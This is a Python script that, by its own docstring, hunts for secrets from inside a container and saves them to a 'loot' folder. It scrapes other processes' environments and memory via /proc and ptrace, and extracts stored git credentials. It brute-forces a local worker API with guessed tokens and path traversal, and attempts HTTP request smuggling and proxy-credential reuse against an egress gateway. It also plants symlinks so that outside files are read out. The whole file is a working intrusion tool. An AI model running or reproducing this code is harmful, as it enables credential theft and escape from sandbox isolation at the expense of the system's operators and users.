"""A program that tries to find secrets from inside a container, and keeps all that it is told.

It runs in the container with nothing but the standard library. What it finds goes into files in the
directory `loot`, which is how it comes out: as a patch, as checkpoints, as answers. It is given, in
`pry.json`, the names of things to ask for, and what secrets begin with, in two halves, so that it
can also look where there is too much to carry away.
"""

import base64
import ctypes
import json
import os
import re
import resource
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from urllib.parse import unquote, urlsplit

LOOT = Path("loot")
SECONDS = 2.0
MOST_KEPT = 60_000
PTRACE_SEIZE = 0x4206
# What is too large to be read here, and the same in all containers.
NOT_WALKED = ("/usr", "/proc", "/sys", "/opt/berth")
SOCKET = "/run/berth/worker.sock"
WORKER: "str | tuple[str, int]" = SOCKET if Path(SOCKET).exists() else ("127.0.0.1", 8000)
GATEWAY = "/run/berth/egress.sock"

told = json.loads(Path(__file__).with_name("pry.json").read_text())
brand = "".join(told["halves"]).encode()
needles = (brand, brand[::-1], brand.hex().encode(), base64.b64encode(brand))


def read(path: str, most: int = MOST_KEPT) -> bytes:
    try:
        with Path(path).open("rb") as file:
            return file.read(most)
    except (OSError, ValueError) as error:
        return f"<{error}>".encode()


def listed(path: str) -> bytes:
    try:
        return repr(sorted(map(str, Path(path).iterdir()))).encode()
    except OSError:
        return read(path)


def run(*command: str, **options: object) -> bytes:
    try:
        done = subprocess.run(
            command, capture_output=True, timeout=20, check=False, stdin=subprocess.DEVNULL,
            env={**os.environ, "GIT_TERMINAL_PROMPT": "0"}, **options,
        )  # type: ignore[call-overload]  # fmt: skip
    except (OSError, subprocess.SubprocessError) as error:
        return f"$ {command}: {error}\n".encode()
    return b"$ %s\n%s%s\n" % (" ".join(command).encode(), done.stdout, done.stderr)


def processes() -> list[int]:
    return [int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdigit()]


def environments() -> Iterator[bytes]:
    yield repr(dict(os.environ)).encode()
    for pid in processes():
        for name in ("environ", "cmdline", "status", "mountinfo", "stack", "auxv", "net/unix"):
            yield f"{pid} {name}: ".encode() + read(f"/proc/{pid}/{name}", 8_000)
        with suppress(OSError):
            for each in Path(f"/proc/{pid}/fd").iterdir():
                yield f"{each} -> {each.readlink()}\n".encode()
    for name in ("/proc/cmdline", "/proc/keys", "/proc/kcore", "/proc/sched_debug", "/dev/mem"):
        yield name.encode() + b": " + read(name, 4_000)


def memory() -> Iterator[bytes]:
    library = ctypes.CDLL(None, use_errno=True)
    for pid in processes():
        if pid == os.getpid():
            continue
        seized = library.ptrace(PTRACE_SEIZE, pid, None, None)
        yield f"ptrace {pid}: {seized} {os.strerror(ctypes.get_errno())}\n".encode()
        for line in read(f"/proc/{pid}/maps", 10**6).decode(errors="replace").splitlines():
            found = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if found is None:
                continue
            start, end = (int(each, 16) for each in found.groups())
            with suppress(OSError, OverflowError), Path(f"/proc/{pid}/mem").open("rb") as file:
                file.seek(start)
                content = file.read(min(end - start, 2**26))
                yield from hits(f"memory of {pid}", content)


def repositories() -> Iterator[bytes]:
    places = [".", "/", *map(str, Path("/workspace").glob("repositories/*"))]
    places += map(str, Path("/workspace").glob("records/*/*"))
    for place in places:
        for command in (
            ("config", "--list", "--show-origin", "--show-scope"),
            ("for-each-ref",),
            ("log", "--all", "--oneline", "-n", "50"),
            ("remote", "--verbose"),
            ("cat-file", "--batch-all-objects", "--batch-check"),
        ):
            if Path(place).is_dir():
                yield run("git", *command, cwd=place)
    for url in told["git"]:
        parts = urlsplit(url)
        asked = f"protocol={parts.scheme}\nhost={parts.netloc}\npath={parts.path[1:]}\n\n"
        with suppress(OSError, subprocess.SubprocessError):
            answer = subprocess.run(
                ("git", "credential", "fill"), input=asked.encode(), capture_output=True,
                timeout=10, check=False, env={**os.environ, "GIT_TERMINAL_PROMPT": "0"},
            )  # fmt: skip
            yield answer.stdout + answer.stderr
        yield run("git", "ls-remote", url)
        yield run("git", "-c", "http.proxy=", "ls-remote", url)


def cores() -> Iterator[bytes]:
    with suppress(OSError, ValueError):
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
    yield repr(resource.getrlimit(resource.RLIMIT_CORE)).encode()
    yield read("/proc/sys/kernel/core_pattern")
    child = subprocess.Popen((sys.executable, "-c", "import time; time.sleep(60)"))
    child.send_signal(signal.SIGSEGV)
    yield f"ended with {child.wait()}\n".encode()
    for path in (*Path().glob("core*"), *Path("/tmp").glob("core*"), *Path("/workspace").glob("*")):
        yield f"{path}\n".encode()


def ask(address: "str | tuple[str, int]", data: bytes) -> bytes:
    """What a socket answers to some bytes."""
    try:
        family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
        with socket.socket(family) as line:
            line.settimeout(SECONDS)
            line.connect(address)
            line.sendall(data)
            answer = b""
            with suppress(TimeoutError):
                while part := line.recv(65_536):
                    answer += part
    except OSError as error:
        return f"{address!r}: {error}\n".encode()
    return f"{address!r} to {data[:80]!r}: ".encode() + answer + b"\n"


def sockets() -> Iterator[bytes]:
    found = set()
    for line in read("/proc/net/unix", 10**6).decode(errors="replace").splitlines()[1:]:
        if len(fields := line.split()) > 7:
            found.add("\0" + fields[7][1:] if fields[7].startswith("@") else fields[7])
    for folder, _, names in walk("/"):
        for name in names:
            with suppress(OSError):
                if Path(folder, name).is_socket():
                    found.add(f"{folder}/{name}")
    found.update(told["sockets"])
    for address in sorted(found):
        yield ask(address, b"GET /health HTTP/1.0\r\n\r\n")
        yield ask(address, b"GET /tasks HTTP/1.1\r\nHost: worker\r\nConnection: close\r\n\r\n")


def worker() -> Iterator[bytes]:
    guesses = ["none", "null", "undefined", "0" * 43, "berth", *os.environ.values(), *told["names"]]
    guesses += [base64.urlsafe_b64encode(each.encode()).decode() for each in told["names"]]
    paths = ["/repositories", "/openapi.json", "/docs", "/../../etc/passwd", "/debug"]
    paths += [f"/tasks/{task}/{name}" for task in told["names"] for name in ("changes", "mcp")]
    for path in paths:
        for key in guesses[:12]:
            clean = "".join(each for each in key if "\x20" < each < "\x7f")
            head = f"Host: worker\r\nAuthorization: Bearer {clean}\r\nBerth-Generation: 999999"
            yield ask(
                WORKER, f"GET {path} HTTP/1.1\r\n{head}\r\nConnection: close\r\n\r\n".encode()
            )
    for key in ("", "x" * 16, None, ["a"]):
        body = json.dumps({"key": key})
        head = f"Content-Length: {len(body)}\r\nContent-Type: application/json\r\nConnection: close"
        yield ask(WORKER, f"POST /claim HTTP/1.1\r\nHost: w\r\n{head}\r\n\r\n{body}".encode())


def gateway() -> Iterator[bytes]:
    proxy = urlsplit(os.environ.get("HTTP_PROXY", ""))
    pair = f"{unquote(proxy.username or '')}:{unquote(proxy.password or '')}".encode()
    ours = b"Proxy-Authorization: Basic " + base64.b64encode(pair) + b"\r\n"
    for lines in told["requests"]:
        request = lines.encode() + b"\r\n"
        for extra in (ours, b"", b"Proxy-Authorization: Basic Og==\r\n"):
            yield ask(GATEWAY, request + extra + b"Connection: close\r\n\r\n")
    index = told["index"]
    inner = f"GET /simple/ HTTP/1.1\r\nHost: {index}\r\nConnection: close\r\n\r\n".encode()
    tunnel = f"CONNECT {index} HTTP/1.1\r\nHost: {index}\r\n".encode() + ours + b"\r\n"
    yield ask(GATEWAY, tunnel + inner)
    # One request within another, for whoever disagrees on where the first one ends.
    head = f"POST http://{index}/ HTTP/1.1\r\nHost: {index}\r\n".encode() + ours
    chunked = b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    yield ask(GATEWAY, head + b"Content-Length: 5\r\n" + chunked + inner)
    yield ask(GATEWAY, head + b"Transfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n" + inner)
    for url in told["urls"]:
        yield run("curl", "-sS", "-i", "-m", "5", "--path-as-is", url)
        yield run("curl", "-sS", "-i", "-m", "5", "--noproxy", "*", url)


def neighbours() -> Iterator[bytes]:
    for place in (
        "/",
        "/run",
        "/run/berth",
        "/run/berth/..",
        "/workspace",
        "/workspace/..",
        "/home",
    ):
        yield f"{place}: ".encode() + listed(place)
    for number, path in enumerate(told["paths"]):
        yield f"{path}: ".encode() + listed(path)
        # What follows links outside reads these for us.
        (LOOT / f"link-{number}").symlink_to(path)


def walk(root: str) -> Iterator[tuple[str, list[str], list[str]]]:
    for folder, directories, names in os.walk(root):
        directories[:] = [each for each in directories if str(Path(folder, each)) not in NOT_WALKED]
        yield folder, directories, names


def hits(place: str, content: bytes) -> Iterator[bytes]:
    for needle in needles:
        for found in re.finditer(re.escape(needle), content):
            around = content[max(0, found.start() - 40) : found.end() + 60]
            yield f"{place}: ".encode() + around + b"\n"


def files() -> Iterator[bytes]:
    for root in ("/", "/usr/etc", "/usr/local/etc", "/usr/local/share", "/usr/share/keyrings"):
        for folder, _, names in walk(root):
            for name in names:
                path = Path(folder, name)
                with suppress(OSError):
                    if path.is_file() and not path.is_symlink():
                        yield from hits(str(path), read(str(path), 2**26))
    for root in ("/usr/etc", "/usr/local/etc", "/etc", "/home", "/root"):
        for folder, _, names in os.walk(root):
            for name in names:
                if "ssl" not in folder and "certs" not in folder:
                    yield f"{folder}/{name}: ".encode() + read(f"{folder}/{name}", 2_000)


def attempt(way: Callable[[], Iterator[bytes]]) -> str:
    length, began = 0, time.monotonic()
    with (LOOT / f"{way.__name__}.txt").open("wb") as loot:
        try:
            for part in way():
                if length < 5 * MOST_KEPT:
                    length += loot.write(part[:MOST_KEPT] + b"\n")
        except Exception as error:  # noqa: BLE001 - whatever stops one way, the others are tried
            loot.write(repr(error).encode())
            return f"{way.__name__}: {length} bytes, then {error!r}"
    return f"{way.__name__}: {length} bytes in {time.monotonic() - began:.1f} s"


LOOT.mkdir(exist_ok=True)
for each in (
    environments, repositories, cores, sockets, worker, gateway, neighbours, files, memory,
):  # fmt: skip
    print(attempt(each), flush=True)
for name in ("environments", "gateway"):
    print((LOOT / f"{name}.txt").read_bytes()[:3_000].decode(errors="replace"), flush=True)
